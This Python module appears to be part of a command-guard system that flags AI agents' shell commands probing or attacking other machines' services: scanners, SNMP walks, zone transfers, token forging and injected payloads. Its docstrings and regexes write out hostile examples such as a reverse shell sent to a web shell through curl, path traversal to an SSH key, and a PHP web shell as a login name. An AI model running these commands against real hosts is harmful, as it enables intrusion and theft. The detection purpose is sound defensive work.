"""Tactic family ``service attacks``: another machine's service probed for weaknesses and broken into.

What a penetration test's first hour looks like, and a prompt-injected agent's reconnaissance of
the network it sits in. No coding task needs it, but a developer testing their own application on
purpose does, so each finding is :data:`~agentbus.guards.verdict.SERVICE_ATTACK` (asked by default;
``profile = "unattended"`` blocks it):

- web content brute forcers (``gobuster``, ``ffuf``, ``feroxbuster``, ``dirsearch``, ``wfuzz`` ...):
  thousands of guessed paths sent to a site;
- injection and vulnerability scanners (``sqlmap``, ``nikto``, ``nuclei``, ``wpscan`` ...; the exploitation
  frameworks, ``msfconsole`` or ``commix``, are :mod:`..danger`'s, blocked):
  a site probed for the flaws they exploit, and ``sqlmap --os-shell`` the shell it gets;
- enumeration of another host's users and shares (``enum4linux``, ``smbmap``, ``finger-user-enum``,
  ``smtp-user-enum``, ``onesixtyone`` ...), run by name or as a script (``./finger-user-enum.pl``);
- another host's SNMP tree walked or written with a default community (``snmpwalk -v2c -c public
  10.10.10.5``, ``snmpset -c private``), or walked whole with any (``snmpwalk -v2c -c s3cret HOST``):
  its accounts, processes, software and routes read; ``braa``, a mass SNMP scanner, whatever it asks;
- nmap told to exploit or hunt for flaws: scripts named after a CVE or a flaw (``distcc-cve2004-2687``,
  ``ssl-heartbleed``, ``http-shellshock``, ``*-vuln-*``), the ``vuln``, ``exploit``, ``intrusive``,
  ``dos`` and ``malware`` categories, or a command handed to a script (``--script-args cmd=id``),
  pointed at any host but this one;
- a whole DNS zone asked for (``dig axfr @10.0.0.5 corp.local``, ``host -l corp.local ns1``): a zone
  transfer, the map of another network's hosts; and its names guessed or mapped by the DNS reconnaissance
  tools (``dnsrecon -t brt -D names.txt``, ``fierce --domain``, ``dnsenum``, ``dnsmap``): every run of them;
- another host's logged-in users asked of its finger or rusers daemon (``finger @HOST``, ``rusers -l
  HOST``): whose accounts to guess next (``finger bob`` of this machine is not);
- an HTTP client whose URL climbs out of the server's web root (``curl --path-as-is
  http://h/../../home/u/.ssh/id_rsa``, ``%2e%2e%2f``): a path traversal, never a page a site serves;
  or that sends a reverse shell in a URL, a form field or a body (``curl h/shell.php --data-urlencode
  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine (a web
  shell's command is also judged as shell code, :mod:`..carriers`: that reverse shell is blocked); or
  that sends code starting a process for a server to run (an Elasticsearch script calling
  ``Runtime.getRuntime().exec``) or sets the command CouchDB runs as a query server;
- a request whose content makes another host's web application open or run it (:mod:`..web_payloads`):
  a file inclusion (``?page=php://filter/…``, ``?file=/etc/passwd``), a web shell's command (``?cmd=id``),
  PHP, template, JNDI, XXE or SQL injections, a file that is code uploaded (``-F f=@shell.php``);
- a deserialization or JNDI payload generator run (``java -jar ysoserial.jar``, ``phpggc``, ``marshalsec``);
- database takeover tools (``odat``, ``redis-rogue-server.py``) pointed at another host.
- a web token forged or tampered with (``jwt_tool TOKEN -X a``, ``-T``, ``-I -pc role -pv admin``, ``-S``,
  ``-M at -t URL``): an ``alg: none``, key-confusion or re-signed token to get into another's application (its
  ``-C``, cracking the token's secret, is :mod:`.cracking`'s); decoding a token (``jwt_tool TOKEN``) is not;
- a site crawled for words to guess its users' passwords with (``cewl http://target -w words.txt``), and
  an organisation's e-mail addresses, people and hosts gathered from public sources (``theHarvester -d
  corp.com``);
- another host's shares listed (``showmount -e 10.10.13.37``, ``smbutil view //guest@10.0.0.5``, as
  ``smbclient -L`` is), a login tried on its RDP port (``impacket-rdp_check``), sites screenshotted with
  their default passwords tried (``eyewitness --active-scan``), and a command handed to a finger daemon
  as the user's name (``finger "|/bin/id@HOST"``: old fingerd ran it).

Port scans of a host or a LAN stay discovery (:mod:`.scanning` asks for sweeps of the internet and for
another machine fingerprinted);
password guessing is :mod:`.cracking`'s; a tool asked for its help or version sends nothing.
"""

from __future__ import annotations

import re

from ...lazy_regex import lazy_compile
from ..findings import finding as _verdict
from ..findings import positionals
from ..findings import static_args as _values
from ..hosts import named_hosts, only_this_machine
from ..options import option_values
from ..programs import Invocation
from ..verdict import SERVICE_ATTACK, Verdict
from ..web_payloads import attack as web_attack
from ..web_payloads import code_in
from .cracking import nse_scripts
from .hidden_runs import launched_file

__all__ = ["judge"]

_BRUTE_FORCERS = frozenset({"gobuster", "ffuf", "feroxbuster", "dirsearch", "dirb", "dirbuster", "wfuzz",
                            "dirhunt", "kiterunner", "kr"})  # fmt: skip
"""Programs that guess a site's hidden paths, virtual hosts or parameters from a word list."""
_VULNERABILITY_SCANNERS = frozenset({
    "sqlmap", "ghauri", "nosqlmap", "tplmap", "sstimap", "xsstrike", "dalfox", "xsser",
    "nikto", "nuclei", "wpscan", "joomscan", "droopescan", "cmseek", "wapiti", "skipfish", "arachni",
    "jaeles", "davtest",
})  # fmt: skip
"""Programs that probe a site for injectable parameters and known flaws, and exploit what they find."""
_HARVESTERS = frozenset({"theHarvester", "theharvester"})
"""Programs that gather an organisation's e-mail addresses, people and hosts from search engines and public
sources: the list of whom to phish and what to attack next (no coding task has a target domain)."""
_ENUMERATORS = frozenset({
    "enum4linux", "enum4linux-ng", "smbmap", "nbtscan", "finger-user-enum", "smtp-user-enum",
    "onesixtyone", "snmp-check", "ike-scan", "ident-user-enum", "nfsshell", "braa", "nbtscan-unixwiz",
    *_HARVESTERS,
})  # fmt: skip
"""Programs that list another host's accounts, shares and services to attack next (a Windows domain's:
:mod:`.domain_attacks`)."""
_DNS_MAPPERS = frozenset({"dnsrecon", "dnsrecon.py", "fierce", "dnsenum", "dnsenum.pl", "dnsmap"})
"""Programs that map a domain's hosts: its names guessed from a word list, its zone transfer tried, its
address blocks walked backwards (no coding task has a domain to map)."""
_SNMP_WALKERS = frozenset({"snmpwalk", "snmpbulkwalk", "snmpset"})
"""Net-SNMP's programs that read a device's whole tree (or a branch of it) or change its settings."""
_DEFAULT_COMMUNITIES = frozenset({"public", "private"})
"""The community strings devices ship with: what a walk guesses, not what an administrator set."""
_SNMP_VALUED = frozenset({"-v", "-c", "-u", "-l", "-a", "-A", "-x", "-X", "-O", "-m", "-M", "-r", "-t", "-C",
                          "-e", "-E", "-n", "-D", "-I", "-L", "-P", "-Y", "-Z"})  # fmt: skip
"""Net-SNMP's options whose next word is a value, not the agent."""
_DATABASE_ATTACKERS = frozenset({"odat", "redis-rogue-server"})
"""Programs that take over a database server: ODAT (Oracle's scheduler jobs, Java, ``UTL_FILE`` writes,
external tables), a rogue Redis master that ships a module to its replica."""
_SOURCE_DUMPERS = frozenset({"git-dumper", "goop"})
"""Programs that rebuild a site's source from its exposed ``.git`` folder: its secrets and its flaws."""
_WORDLIST_BUILDERS = frozenset({"cewl", "cewler"})
"""Programs that crawl a site for the words its people use: the word list a password guesser tries next."""
_TOOLS = (
    _BRUTE_FORCERS
    | _VULNERABILITY_SCANNERS
    | _ENUMERATORS
    | _DATABASE_ATTACKERS
    | _SOURCE_DUMPERS
    | _WORDLIST_BUILDERS
    | _DNS_MAPPERS
)
_TOKEN_FORGERS = frozenset({"jwt_tool"})
"""Programs that forge web tokens (``jwt_tool``, by name or as ``jwt_tool.py``), judged by their mode."""
_TOKEN_FORGING = frozenset({
    "-X", "--exploit", "-T", "--tamper", "-I", "--injectclaims", "-S", "--sign", "-M", "--mode",
})  # fmt: skip
"""jwt_tool's options that forge a token (its exploits, tampering, injected claims, a new signature) or send
forged ones at a site (its scan modes)."""
_PUBLISHED_SCRIPTS = frozenset({
    "finger-user-enum.pl", "smtp-user-enum.pl", "ident-user-enum.pl", "enum4linux.pl", "enum4linux-ng.py",
    "dirsearch.py", "sqlmap.py", "xsstrike.py", "nosqlmap.py", "tplmap.py", "sstimap.py",
    "nikto.pl", "odat.py", "redis-rogue-server.py", "jwt_tool.py", "cewl.rb",
})  # fmt: skip
"""The tools published as scripts and run by their file's name (``./finger-user-enum.pl -U names -t H``)."""
_INTERPRETERS = frozenset({"perl", "ruby"})
"""Interpreters besides Python a tool's script is run with (``perl smtp-user-enum.pl``)."""
_HTTP_CLIENTS = frozenset({"curl", "wget", "http", "https", "xh", "httpie"})
"""Clients whose URL may climb out of a web root."""
_NSE_ATTACK = lazy_compile(
    r"^(?:vuln|exploit|intrusive|dos|malware|[\w.-]*(?:cve-?\d{4}|vuln|exploit|heartbleed|shellshock|backdoor)[\w.-]*"
    r"|(?:[\w.-]*[-_.])?rce(?:[-_.][\w.-]*)?)(?:\.nse)?$",
    re.IGNORECASE,
)
"""An nmap script that exploits or hunts for flaws, or one of the categories of such scripts (``rce`` as a
word of the name: ``http-vmware-path-vuln``, ``smb-rce``, not ``http-sourcecode``)."""
_NSE_COMMAND = lazy_compile(r"(?:^|[.,\s])(?:cmd|command|exec|shell)\s*=", re.IGNORECASE)
"""A command handed to a script in ``--script-args`` (``distcc-exec.cmd='id'``, ``cmd=whoami``)."""
_NMAP_VALUE_OPTIONS = frozenset({
    "-p", "-oA", "-oN", "-oG", "-oX", "-oS", "--script", "--script-args", "-iL", "--exclude", "--excludefile",
    "-e", "-S", "-D", "-g", "--source-port", "--top-ports", "--data-length", "--max-rate", "--min-rate",
    "--host-timeout", "--scan-delay", "--max-retries", "--script-args-file", "--datadir", "--dns-servers",
})  # fmt: skip
_INFO = frozenset(
    {"--help", "-help", "--version", "-version", "-update", "--update", "-ut", "-update-templates"}
)
"""Help, version, or the tool's own data updated (``nikto -update``, ``nuclei -ut``): nothing is sent."""
_BARE_INFO = frozenset({"-h", "-V", "version", "help"})
"""Help or version only as the one argument: ``nikto -h HOST`` names its target with ``-h``."""
_REVERSE_SHELL = lazy_compile(
    r"/dev/(?:tcp|udp)/|\b(?:ba|z|da)?sh\s+-i\b|\bn(?:c|cat|etcat)\b[^|;&]{0,200}?\s-\w{0,10}[ec]\s|\bmkfifo\b"
    r"|socket\.socket\(|\bsocat\b[^|;&]{0,200}?\bexec:"
)
"""What ties a shell to a connection (``/dev/tcp/``, ``bash -i``, ``nc -e``, a FIFO, a Python socket), in
text sent to another machine: a reverse shell injected into it. The gaps are bounded: each ``nc`` of a long
text searched only so far ahead, the work stays linear."""
_PERCENT = lazy_compile(r"%([0-9A-Fa-f]{2})")
"""A percent-encoded byte of a URL or a form field (decoded here: urllib.parse costs the hook its import)."""


def _decoded(match: re.Match[str]) -> str:
    return chr(int(match.group(1), 16))


_TRAVERSAL = lazy_compile(r"(?:/|%2f|\\|=)(?:\.|%2e){2}(?:/|%2f|\\|$)")
"""A path segment ``..`` in a URL's path or a query value, plain or percent-encoded (``/../``,
``%2e%2e%2f``, ``?page=..%2f..%2fetc%2fpasswd``)."""


_DOT_SEGMENT = lazy_compile(r"/\.\.?(?=/|$)")
"""A plain ``.`` or ``..`` segment of a URL's path, which curl and wget remove before sending it."""


def judge(invocation: Invocation, home: str) -> Verdict | None:
    """The attack on another machine's service in this command, or None."""
    name = invocation.name
    values = _values(invocation)
    script = launched_file(invocation) if name.startswith("python") else None
    listing = (script or name).rpartition("/")[2]
    if listing in _REMOTE_LISTINGS:
        return _remote_listing(invocation, listing, values)
    if name in _HTTP_CLIENTS:
        return (
            _traversal(invocation, values)
            or _injected_shell(invocation, values)
            or _server_code(invocation, values)
            or _web_attack(invocation, values)
        )
    generator = _payload_generator(name, values)
    if generator is not None:
        return _verdict(
            SERVICE_ATTACK, invocation, f"{generator} makes exploit payloads for another host's application"
        )
    if name == "nmap":
        return _nmap_attack(invocation, values)
    if name in _LOGGED_LOGINS:
        return _poisoned_login(invocation, values)
    if name in ("dig", "host", "drill"):
        return _zone_transfer(invocation, values)
    if name in _SNMP_WALKERS:
        return _default_community(invocation, values)
    tool = _tool_name(invocation)
    if tool in _TOKEN_FORGERS:
        return _forged_token(invocation, values)
    if tool is None or _INFO & set(values) or (len(values) == 1 and values[0] in _BARE_INFO):
        return None
    if only_this_machine(named_hosts(values)):
        return None  # nikto -h localhost:8000, sqlmap -u http://127.0.0.1/: one's own site
    if tool in _BRUTE_FORCERS:
        why = f"{tool} guesses a site's hidden paths from a word list"
    elif tool in _VULNERABILITY_SCANNERS:
        why = f"{tool} probes a site for flaws to exploit"
    elif tool in _SOURCE_DUMPERS:
        why = f"{tool} downloads a site's exposed .git folder: its source, history and secrets"
    elif tool in _WORDLIST_BUILDERS:
        why = f"{tool} crawls a site for words to guess its users' passwords with"
    elif tool in _HARVESTERS:
        why = f"{tool} gathers a domain's e-mail addresses, people and hosts: whom to phish, what to attack"
    elif tool in _DNS_MAPPERS:
        why = f"{tool} maps a domain's hosts: names guessed from a word list, zone transfers tried"
    elif tool in _DATABASE_ATTACKERS:
        why = f"{tool} takes over a database server to run commands or write files on its machine"
    else:
        why = f"{tool} lists another host's users, shares or services to attack"
    return _verdict(SERVICE_ATTACK, invocation, why)


_REMOTE_LISTINGS = frozenset({
    "showmount", "smbutil", "finger", "rdp_check", "rdp_check.py", "impacket-rdp_check", "eyewitness",
    "EyeWitness.py", "eyewitness.py", "rusers",
})  # fmt: skip
"""Programs judged by :func:`_remote_listing`: ordinary against this machine, reconnaissance elsewhere."""
_SHOWMOUNT_LISTS = frozenset({"-e", "--exports", "-a", "--all"})
_FINGER_COMMAND = lazy_compile(r"^\|.*@[^@\s]+$")


def _remote_listing(invocation: Invocation, name: str, values: list[str]) -> Verdict | None:
    """``showmount -e HOST``, ``smbutil view //guest@HOST``: another host's shares listed (as ``smbclient
    -L``); ``impacket-rdp_check DOMAIN/USER:PW@HOST``: a login tried on its RDP port; ``eyewitness
    --active-scan``: default passwords tried on each site; ``finger "|/bin/id@HOST"``: a command injected
    into a finger daemon. The same aimed at this machine stays ordinary."""
    if name == "finger":
        injected = next((v for v in values if _FINGER_COMMAND.match(v)), None)
        if injected is not None:
            why = f"finger sends {injected!r}: a command for the remote finger daemon to run"
            return _verdict(SERVICE_ATTACK, invocation, why)
        hosts = [v.rpartition("@")[2] for v in values if "@" in v and not v.startswith("-")]
        if not hosts or only_this_machine(hosts):
            return None
        why = f"finger asks {hosts[0]} who has an account or is logged in: the users to attack next"
        return _verdict(SERVICE_ATTACK, invocation, why)
    if name == "rusers":
        hosts = positionals(values, frozenset())
        if (values and set(values) <= _BARE_INFO | _INFO) or (hosts and only_this_machine(hosts)):
            return None
        where = hosts[0] if hosts else "every host of the local network"
        why = f"rusers asks {where} who is logged in: the users to attack next"
        return _verdict(SERVICE_ATTACK, invocation, why)
    if name.lower().startswith("eyewitness"):
        if "--active-scan" not in values:
            return None
        why = "eyewitness --active-scan tries default passwords on every site it screenshots"
        return _verdict(SERVICE_ATTACK, invocation, why)
    if name == "showmount":
        hosts = positionals(values, frozenset())
        if not _SHOWMOUNT_LISTS & set(values) or not hosts or only_this_machine(hosts):
            return None
        why = f"showmount lists the NFS exports of {hosts[0]}: another host's shares to mount"
    elif name == "smbutil":
        shares = [v for v in values if v.startswith("//")]
        hosts = [v[2:].rpartition("@")[2].partition("/")[0] for v in shares]
        if values[:1] != ["view"] or not hosts or only_this_machine(hosts):
            return None
        why = f"smbutil view lists the SMB shares of {hosts[0]}"
    else:
        hosts = named_hosts(values) or [v.rpartition("@")[2] for v in values if "@" in v]
        if not hosts or only_this_machine(hosts):
            return None
        why = f"{name} tries a login on the RDP port of {hosts[0]}"
    return _verdict(SERVICE_ATTACK, invocation, why)


def _forged_token(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``jwt_tool TOKEN -X a`` (``alg: none``), ``-X k -pk public.pem`` (key confusion), ``-T``, ``-I -pc role
    -pv admin -S hs256 -p secret``, ``-M at -t URL``: a token forged, or forged ones sent, to get into an
    application as someone else; decoding one (``jwt_tool TOKEN``) is not, nor a site of this machine."""
    option = next((v.partition("=")[0] for v in values if v.partition("=")[0] in _TOKEN_FORGING), None)
    if option is None or only_this_machine(named_hosts(values)):
        return None
    why = f"jwt_tool forges or tampers with a web token ({option}) to get into an application as someone else"
    return _verdict(SERVICE_ATTACK, invocation, why)


def _default_community(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``snmpwalk -v2c -c public 10.10.10.5``: another host's SNMP tree read (or set) with a default
    community, or walked whole with any (``snmpwalk -v2c -c s3cret 10.0.0.5``, no OID or ``.1``); the machine
    itself (``localhost``) and one branch read with a community of one's own stay allowed."""
    community = next(iter(option_values(values, frozenset({"-c"}))), "")
    found = positionals(values, _SNMP_VALUED)
    agent = found[0].removeprefix("udp:").removeprefix("tcp:").partition(":")[0] if found else ""
    if not agent or agent.startswith(("-", "[")) or only_this_machine([agent]):
        return None  # [-h|--help]: tldr's notation for the help
    if community.lower() in _DEFAULT_COMMUNITIES:
        why = f"{invocation.name} reads another host's SNMP tree with the default community {community!r}"
        return _verdict(SERVICE_ATTACK, invocation, why)
    if invocation.name != "snmpset" and all(_TREE_ROOT.fullmatch(oid) for oid in found[1:]):
        why = f"{invocation.name} walks the whole SNMP tree of {agent}: its accounts, processes, software"
        return _verdict(SERVICE_ATTACK, invocation, why)
    return None


_TREE_ROOT = lazy_compile(r"\.?(?:1|iso)(?:\.3(?:\.6(?:\.1)?)?)?|\.?(?:1|iso)\.\*|")
"""An OID at the top of every device's tree (``.1``, ``1.3.6.1``, ``iso``): a walk from it reads it all."""


def _tool_name(invocation: Invocation) -> str | None:
    """The attack tool run, by name (``sqlmap``, ``./finger-user-enum.pl``), as the script an interpreter
    runs (``perl smtp-user-enum.pl``, ``python3 -u dirsearch.py``) or as Python's module (``python3 -m
    sqlmap``), or None."""
    name = invocation.name
    if name in _INTERPRETERS or name.startswith("python"):
        modules = (
            option_values(_values(invocation), frozenset({"-m"}))[:1] if name.startswith("python") else []
        )
        name = (launched_file(invocation) or "".join(modules)).rpartition("/")[2]
    if name in _PUBLISHED_SCRIPTS:
        return name.rpartition(".")[0]
    return name if name in _TOOLS or name in _TOKEN_FORGERS else None


def _traversal(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``curl --path-as-is http://h/../../etc/passwd``: a URL whose path climbs above the web root.

    curl (unless told ``--path-as-is``) and wget remove a path's plain ``..`` segments before they send it
    (RFC 3986's dot segments): ``curl localhost:3000/api/../health`` asks for ``/health``. What they keep is
    judged: encoded dots and slashes (``..%2f``, ``%2e%2e/``), backslashes, and the query (``?f=../../x``)."""
    squashed = invocation.name == "wget" or (invocation.name == "curl" and "--path-as-is" not in values)
    for value in values:
        scheme, sep, rest = value.partition("://")
        if not sep or not scheme.isalpha():
            continue
        path = rest.partition("/")[2].split("#", 1)[0]
        if squashed:
            path, mark, query = path.partition("?")
            path = _DOT_SEGMENT.sub("/", "/" + path)[1:] + mark + query
        if _TRAVERSAL.search("/" + path.lower()):  # lower: %2E%2E is %2e%2e
            why = f"requests {value[:80]}, a path that climbs out of the server's web root (path traversal)"
            return _verdict(SERVICE_ATTACK, invocation, why)
    return None


def _nmap_attack(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``nmap --script ssl-heartbleed HOST``, ``--script-args="distcc-exec.cmd='id'"``: nmap exploiting
    or hunting for flaws, on any host but this one (``nmap --script vuln localhost`` checks one's own)."""
    targets = positionals(values, _NMAP_VALUE_OPTIONS)
    if not targets or only_this_machine(targets):
        return None
    script = next((s for s in nse_scripts(values) if _NSE_ATTACK.match(s.rpartition("/")[2])), None)
    if script is not None:
        return _verdict(SERVICE_ATTACK, invocation, f"nmap's {script} scripts exploit or hunt for flaws")
    for index, value in enumerate(values):
        option, equals, attached = value.partition("=")
        arguments = attached if equals else (values[index + 1] if index + 1 < len(values) else "")
        if option == "--script-args" and _NSE_COMMAND.search(arguments):
            return _verdict(
                SERVICE_ATTACK, invocation, f"nmap's scripts are handed a command ({arguments[:60]})"
            )
    return None


def _injected_shell(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``curl http://h/shell.php --data-urlencode 'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``: a
    reverse shell sent for another machine to run (a web shell's parameter, an injectable field)."""
    for value in values:
        if ("/dev/" in value or "sh" in value or "nc" in value or "%" in value) and _REVERSE_SHELL.search(
            _PERCENT.sub(_decoded, value.replace("+", " ")) if "%" in value or "+" in value else value
        ):
            why = f"sends a reverse shell for another machine to run ({value[:80]})"
            return _verdict(SERVICE_ATTACK, invocation, why)
    return None


_PROCESS_CODE = lazy_compile(
    r"\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\bProcessBuilder\s*\(|\bjava\.lang\.Runtime\b"
)
"""Java (Groovy, Painless, MVEL, OGNL) that starts a process: ``Runtime.getRuntime().exec("id")``."""
_COUCHDB_COMMANDS = lazy_compile(r"/_config/(?:query_servers|os_daemons)/", re.IGNORECASE)
"""CouchDB's settings whose value is a command the server runs (a query server, a daemon)."""


def _server_code(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``curl h:9200/_search -d '{"script_fields":{"x":{"script":"…getRuntime().exec(\\"id\\")…"}}}'``:
    code that starts a process sent for a server to run (Elasticsearch's scripts, an expression
    language's field); ``curl -X PUT h:5984/_node/…/_config/query_servers/cmd -d '"CMD"'``: a command
    CouchDB runs, set through its API."""
    for value in values:
        if ("exec" in value or "Runtime" in value or "Process" in value) and _PROCESS_CODE.search(value):
            why = f"sends code that starts a process for a server to run ({value[:80]})"
            return _verdict(SERVICE_ATTACK, invocation, why)
        if "_config" in value and _COUCHDB_COMMANDS.search(value):
            why = f"sets a command for CouchDB to run ({value[:80]})"
            return _verdict(SERVICE_ATTACK, invocation, why)
    return None


_LOGGED_LOGINS = frozenset({"ssh", "sftp", "ftp", "telnet", "sshpass"})
"""Clients whose login name the server writes to a log (``auth.log``, ``vsftpd.log``) as it was typed."""


def _poisoned_login(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``ssh '<?php system($_GET["c"]); ?>'@host``: code as the login name, written to the server's
    authentication log for a file inclusion to run later (log poisoning)."""
    logins = [v.rpartition("@")[0] for v in values if "@" in v]
    logins += [values[i + 1] for i, v in enumerate(values[:-1]) if v in ("-l", "-u", "--user")]
    for login in logins:
        why = code_in(login)
        if why:
            return _verdict(SERVICE_ATTACK, invocation, f"logs in with code as the name: {why}")
    return None


def _web_attack(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``curl 'http://h/?page=php://filter/…'``, ``curl -A '<?php system(…) ?>' h``, ``curl -F f=@shell.php
    h/upload.php``: what the request sends makes another host's web application open or run it."""
    why = web_attack(invocation.name, values)
    return _verdict(SERVICE_ATTACK, invocation, why) if why else None


_PAYLOAD_GENERATORS = lazy_compile(
    r"^(?:ysoserial[\w.-]*|phpggc|marshalsec[\w.-]*|jndiexploit[\w.-]*|rogue-?jndi[\w.-]*|jndi-injection-exploit[\w.-]*"
    r"|jndi-exploit-kit[\w.-]*|gopherus)(?:\.jar|\.exe|\.php|\.py)?$",
    re.IGNORECASE,
)
"""Generators of deserialization and JNDI exploit payloads (``ysoserial``, ``phpggc``, ``marshalsec``,
``JNDIExploit``, ``RogueJndi``): gadget chains that run a command in another host's application."""


_GENERATOR_RUNNERS = frozenset({"java", "php"})
"""What a generator published as a jar or a PHP script is run with."""
_GENERATORS = frozenset({"phpggc", "ysoserial", "marshalsec", "gopherus"})
"""The generators installed as programs (Kali's ``phpggc``, wrapper scripts)."""


def _payload_generator(name: str, values: list[str]) -> str | None:
    """``java -jar ysoserial-all.jar CommonsCollections5 CMD``, ``phpggc Laravel/RCE1 system id``: the
    payload generator run (by name, as a jar or as a PHP script), or None."""
    if name in _GENERATOR_RUNNERS:
        name = next((v for v in values if not v.startswith("-")), "").rpartition("/")[2]
    elif name.startswith("./"):
        name = name[2:]
    name = name.rpartition("/")[2]
    if not _PAYLOAD_GENERATORS.match(name) or _INFO & set(values):
        return None
    return name


def _zone_transfer(invocation: Invocation, values: list[str]) -> Verdict | None:
    """``dig axfr @NS DOMAIN``, ``host -l DOMAIN NS``, ``drill axfr``: every name of a zone."""
    lowered = [value.lower() for value in values]
    if (
        "axfr" in lowered
        or "ixfr" in lowered
        or any(v.startswith(("axfr", "ixfr=")) for v in lowered)
        or (invocation.name == "host" and "-l" in values)
    ):
        return _verdict(SERVICE_ATTACK, invocation, "asks a name server for a whole zone (a zone transfer)")
    return None
